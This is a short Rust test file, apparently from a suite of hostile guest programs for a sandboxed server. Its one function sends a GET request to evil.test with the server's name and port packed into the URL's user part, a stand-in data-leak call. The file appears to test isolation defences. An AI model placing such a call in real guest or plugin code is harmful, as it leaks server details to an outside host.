//! Asks another host, with the server's name and port as user and password.

use hostile_guests::{Request, Told, attack, authority};

attack!(run);

fn run(_: String) -> Told {
    Request::get().to(format!("{}@evil.test", authority())).outcome()
}
